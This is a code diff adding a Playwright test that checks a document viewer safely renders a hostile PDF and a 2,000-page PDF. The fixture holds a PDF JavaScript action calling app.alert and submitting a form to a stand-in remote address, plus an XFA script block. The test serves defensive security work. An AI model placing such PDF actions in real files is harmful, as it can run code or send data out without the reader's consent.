@@ -6,6 +6,7 @@
  * the page must have no Node globals.
  */
 import type { Page } from '@playwright/test'
+import { manyPagesPdf, textPdf } from '../../scripts/gen-hostile-fixtures'
 import { hostClient } from '../support/hostile/host-client'
 import {
   HOSTILE_WORD,
@@ -338,5 +339,92 @@ test.describe('hostile documents in the real renderer', () => {
       await page.waitForTimeout(300)
       await expectClean('compare')
     })
+  })
+})
+
+test.describe('hostile PDFs in the page view', () => {
+  test('a PDF with JavaScript actions, a form submit to a remote address, an XFA form and a non-embedded font shows its page and nothing runs or leaves; 2,000 pages open at once', async ({
+    host,
+    page,
+    context,
+  }) => {
+    test.setTimeout(180_000)
+    const problems: string[] = []
+    page.on('console', (message) => {
+      if (message.type() === 'error' && !PLAYWRIGHT_SANDBOX_NOISE.test(message.text()))
+        problems.push(message.text())
+    })
+    page.on('pageerror', (error) => problems.push(`page error: ${error.message}`))
+    page.on('dialog', (dialog) => {
+      problems.push(`dialog: ${dialog.message()}`)
+      void dialog.dismiss()
+    })
+    context.on('request', (request) => {
+      const url = request.url()
+      if (!url.startsWith(host.origin) && !/^(?:data|blob|about):/.test(url))
+        problems.push(`request left the host: ${url}`)
+    })
+    context.on('page', (popup) => problems.push(`window opened: ${popup.url()}`))
+
+    const hostile = textPdf(['A hostile page whose words must still be shown.'], {
+      title: 'Hostile PDF',
+      // Open action and page actions in JavaScript, an XFA form, a link annotation to a remote address.
+      catalogExtra:
+        '/OpenAction 6 0 R /AA << /WC 6 0 R /WP 6 0 R >> /AcroForm << /XFA 7 0 R /Fields [] >> /Names << /JavaScript << /Names [(x) 6 0 R] >> >>',
+      extraObjects: [
+        "<< /Type /Action /S /JavaScript /JS (app.alert\\('pwned'\\); this.submitForm\\('http://example.invalid/'\\);) >>",
+        '<< /Length 44 >>\nstream\n<xdp:xdp><template><script>1</script></template>\nendstream',
+      ],
+    })
+    const client = hostClient(host.url)
+    const paths = [
+      await client.upload('hostile.pdf', hostile),
+      await client.upload('many-pages.pdf', manyPagesPdf(2000)),
+    ]
+    const { jobId } = await client.call<{ jobId: string }>('documents.import', { paths })
+    const outcome = await client.call<{ status: string; result?: { imported: number } }>(
+      'jobs.wait',
+      { jobId },
+    )
+    expect(outcome.result?.imported).toBe(2)
+
+    const app = new LecternApp(page)
+    await app.open(host.url)
+    await app.library.getByRole('button', { name: 'Hostile PDF' }).click()
+    const pages = page.getByRole('region', { name: /^Pages of / })
+    await expect(pages.locator('.textLayer span', { hasText: 'hostile page' })).toBeVisible({
+      timeout: 30_000,
+    })
+    // Clicking around the page (where a widget or link would be) does nothing either.
+    await pages
+      .locator('.pdf-page')
+      .first()
+      .click({ position: { x: 100, y: 60 } })
+    await page.waitForTimeout(500)
+    expect(problems).toEqual([])
+    expect(await page.evaluate(() => (window as unknown as { __pwned?: unknown }).__pwned)).toBe(
+      undefined,
+    )
+
+    // 2,000 pages: the first page is there within a second of the pages view appearing, and only a few are in the DOM.
+    await page.getByRole('button', { name: '← Back' }).click()
+    await app.library.getByRole('button', { name: 'Many pages' }).click()
+    await expect(pages).toBeVisible()
+    const appeared = Date.now()
+    await expect(pages.locator('.textLayer span', { hasText: 'Page 1 of' }).first()).toBeAttached({
+      timeout: 30_000,
+    })
+    const firstPageMs = Date.now() - appeared
+    test
+      .info()
+      .annotations.push({ type: 'first page of 2,000 (ms)', description: String(firstPageMs) })
+    expect(await pages.locator('.pdf-page').count()).toBeLessThan(8)
+    await page.getByRole('textbox', { name: 'Page number' }).fill('1500')
+    await page.getByRole('textbox', { name: 'Page number' }).press('Enter')
+    await expect(pages.locator('.textLayer span', { hasText: 'Page 1500 of' })).toBeVisible({
+      timeout: 30_000,
+    })
+    expect(await pages.locator('.pdf-page').count()).toBeLessThan(8)
+    expect(problems).toEqual([])
   })
 })
